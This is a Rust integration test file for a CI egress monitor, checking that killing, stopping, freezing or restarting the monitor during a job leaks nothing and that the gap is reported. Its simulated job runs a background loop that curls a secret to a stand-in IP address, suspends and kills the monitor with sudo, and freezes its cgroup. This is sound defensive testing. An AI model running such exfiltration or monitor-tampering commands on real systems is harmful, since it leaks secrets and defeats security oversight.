//! The monitor dies, is stopped, or is started again while a job runs: nothing leaks, the job goes on, the gap is told.

mod life;

use anyhow::{Context, Result, ensure};
use life::{
    BLOCK, EXFILTRATE, Gate, Puppet, assert_gapless, assert_nothing_left, call, detections,
    has_stage, our_tables, postures, wait_gone,
};
use nix::sys::signal::Signal;
use portcullis_common::event::{EnforcementScope, JobStage, PostureLevel};
use portcullis_tests::cgroup::mount_point;
use portcullis_tests::job::StepKind;
use portcullis_tests::world::{MonitorOptions, MonitorPlace};
use portcullis_tests::{JobOutcome, World};
use std::fs;

fn gate(place: MonitorPlace) -> Result<Gate> {
    let options = MonitorOptions { place, ..MonitorOptions::default() };
    Gate::with(World::builder().build()?, &[("block", BLOCK)], options)
}

/// Opens a connection in the job's shell that is used later, on descriptor 9.
const OPEN: &str = r#"
exec 9<>/dev/tcp/ok.test/80
printf 'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n' >&9
read -r line <&9 && echo "$line"
address=$(getent ahostsv4 ok.test | awk '{print $1; exit}'); echo "address $address"
"#;

/// Uses it, and an address that was opened before.
const USE: &str = r#"
printf 'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n' >&9 && read -t 5 -r line <&9 && echo "$line"
curl -sS --max-time 5 -o /dev/null --resolve "ok.test:443:$address" https://ok.test/
"#;

fn dies_and_comes_back(place: MonitorPlace) -> Result<()> {
    let mut gate = gate(place)?;
    let world = &gate.world;
    let mut puppet = Puppet::start_in(world, 0, "octo/hello", &gate.canary)?;
    let opened = puppet.run(OPEN)?;
    ensure!(opened.succeeded() && opened.output.contains("address 198.51.100."), "{opened:?}");
    let tables = our_tables(world)?;
    assert_eq!(tables.len(), 2, "{tables:?}");

    gate.monitor.kill()?;
    assert_eq!(our_tables(world)?, tables, "rules stay");
    let attack = puppet.run(EXFILTRATE)?;
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "what was open stays usable while the monitor is down: {used:?}");
    let name = puppet.run("curl -sS --max-time 3 https://a.wild.test/")?;
    ensure!(!name.succeeded(), "names do not resolve while the monitor is down: {name:?}");
    let early = puppet.run(&format!(
        "{} --socket {}",
        world.root().join("opt/portcullis/bin/post-job").display(),
        world.socket().display()
    ))?;
    assert_eq!(early.status, 2, "{early:?}");
    ensure!(early.output.contains("no monitor listens"), "{early:?}");

    gate.monitor.restart()?;
    let status = gate.monitor.status()?;
    assert_eq!(status.jobs.len(), 1, "{status:?}\n{}", gate.monitor.log());
    assert_eq!(our_tables(world)?, tables, "the same tables, no second ones");
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "what was open stays usable: {used:?}\n{}", gate.monitor.log());
    let name = puppet.run(&call("b.wild.test"))?;
    ensure!(name.succeeded(), "names resolve again: {name:?}\n{}", gate.monitor.log());
    let again = puppet.run(EXFILTRATE)?;

    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}\n{}", result.log(), gate.monitor.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result).with_context(|| format!("{attack:?} {again:?}"))?;
    assert_nothing_left(world)?;

    let events = gate.last_events()?;
    assert_gapless(&events);
    assert!(has_stage(&events, JobStage::Adopted), "{events:#?}");
    assert!(has_stage(&events, JobStage::Ended));
    let gap = |text: &str| text.contains("it took this job over at");
    assert!(postures(&events).any(|event| gap(&event.reason)), "{events:#?}");
    let report = gate.last_report()?;
    assert!(report.posture.warnings.iter().any(|warning| gap(warning)), "{:#?}", report.posture);
    assert!(gap(&result.summary()), "{}", result.summary());
    let hook = result.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
    assert!(gap(&hook.log), "{}", hook.log);
    assert!(detections(&events).next().is_none(), "a restart is no tampering: {events:#?}");
    Ok(())
}

#[test]
fn a_killed_monitor_takes_the_job_over() -> Result<()> {
    dies_and_comes_back(MonitorPlace::RunnerHost)
}

#[test]
fn a_killed_monitor_takes_a_job_of_another_network_namespace_over() -> Result<()> {
    dies_and_comes_back(MonitorPlace::Machine)
}

fn worker_dies_meanwhile(place: MonitorPlace) -> Result<()> {
    let mut gate = gate(place)?;
    let mut puppet = Puppet::start_in(&gate.world, 0, "octo/hello", &gate.canary)?;
    let daemon = puppet.run(
        r#"env -u RUNNER_TRACKING_ID setsid --fork bash -c 'echo $$ >"$PUPPET/pid"; while :; do curl -sSk --max-time 1 "https://203.0.113.66/$S"; done' >/dev/null 2>&1
        until [ -s "$PUPPET/pid" ]; do sleep 0.02; done; cat "$PUPPET/pid""#,
    )?;
    let daemon: u32 = daemon.output.trim().parse()?;
    gate.monitor.kill()?;
    puppet.job.signal_worker(Signal::SIGKILL)?;
    let result = puppet.job.wait()?;
    assert_eq!(result.outcome, JobOutcome::Failure);
    assert_eq!(our_tables(&gate.world)?.len(), 2, "what is left of the job is still judged");

    gate.monitor.restart()?;
    wait_gone(daemon)?;
    gate.monitor.wait_until_idle()?;
    assert_nothing_left(&gate.world).with_context(|| gate.monitor.log())?;
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    assert!(has_stage(&events, JobStage::Ended), "{events:#?}");
    let report = gate.last_report()?;
    let told = |warning: &String| warning.contains("while no monitor was running");
    assert!(report.posture.warnings.iter().any(told), "{report:#?}");

    // The twin: the next job on this runner is served as if nothing had been.
    let next = gate.run(&gate.job(&call("ok.test")))?;
    assert_eq!(next.outcome, JobOutcome::Success, "{}\n{}", next.log(), gate.monitor.log());
    assert_nothing_left(&gate.world)
}

#[test]
fn a_worker_that_dies_meanwhile_is_cleaned_up_after() -> Result<()> {
    worker_dies_meanwhile(MonitorPlace::RunnerHost)
}

#[test]
fn a_worker_of_another_network_namespace_that_dies_meanwhile_is_cleaned_up_after() -> Result<()> {
    worker_dies_meanwhile(MonitorPlace::Machine)
}

/// P2: root in the job stops, freezes and kills the monitor. The twin: an orderly restart.
#[test]
fn a_monitor_that_the_job_stops_keeps_its_rules() -> Result<()> {
    let mut gate = gate(MonitorPlace::RunnerHost)?;
    let mut puppet = Puppet::start_in(&gate.world, 0, "octo/hello", &gate.canary)?;
    let opened = puppet.run(OPEN)?;
    ensure!(opened.succeeded(), "{opened:?}");
    let monitor = gate.monitor.pid();

    let stopped = puppet.run(&format!("sudo kill -STOP {monitor}; {EXFILTRATE}"))?;
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "{used:?} {stopped:?}");
    puppet.run(&format!("sudo kill -CONT {monitor}"))?;
    let name = puppet.run(&call("c.wild.test"))?;
    ensure!(name.succeeded(), "{name:?}");

    let group = fs::read_to_string(format!("/proc/{monitor}/cgroup"))?;
    let group = group.lines().find_map(|line| line.strip_prefix("0::/")).context("no cgroup")?;
    let freezer = mount_point()?.join(group).join("cgroup.freeze");
    let freeze = |on: u8| format!("echo {on} | sudo tee {} >/dev/null", freezer.display());
    let frozen = puppet.run(&format!(
        "{}; for to in 203.0.113.66 '[2001:db8::66]'; do curl -sSk --max-time 1 https://$to/$S; done; true",
        freeze(1)
    ))?;
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "{used:?} {frozen:?}");
    let name = puppet.run("curl -sS --max-time 1 https://f.wild.test/")?;
    ensure!(!name.succeeded(), "it was not frozen: {name:?} {frozen:?}");
    let thawed = puppet.run(&format!("{}; {}", freeze(0), call("f.wild.test")))?;
    ensure!(thawed.succeeded(), "{thawed:?}");

    let killed = puppet.run(&format!("sudo kill -9 {monitor}; {EXFILTRATE}"))?;
    ensure!(!gate.monitor.is_running());
    gate.monitor.restart()?;
    let name = puppet.run(&call("d.wild.test"))?;
    ensure!(name.succeeded(), "{name:?} {killed:?}");

    let status = gate.monitor.stop()?;
    ensure!(status.success(), "{status}");
    assert_eq!(our_tables(&gate.world)?.len(), 2, "rules stay");
    let attack = puppet.run(EXFILTRATE)?;
    gate.monitor.restart()?;
    let used = puppet.run(&format!("{USE}\n{}", call("e.wild.test")))?;
    ensure!(used.succeeded(), "{used:?} {attack:?}");

    let posture = &gate.monitor.status()?.jobs[0].posture;
    assert!(
        matches!(posture.level, PostureLevel::Enforced | PostureLevel::Degraded),
        "{posture:?}"
    );
    assert_eq!(posture.scope, EnforcementScope::Host);
    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result)?;
    assert_nothing_left(&gate.world)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    let adopted = events
        .iter()
        .filter(|event| {
            matches!(&event.kind, portcullis_common::event::EventKind::Job(job) if job.stage == JobStage::Adopted)
        })
        .count();
    assert_eq!(adopted, 2);
    // Each gap is told, also those of earlier restarts.
    let told = gate.last_report()?.posture.warnings;
    assert_eq!(
        told.iter().filter(|text| text.contains("it took this job over at")).count(),
        2,
        "{told:#?}"
    );
    Ok(())
}
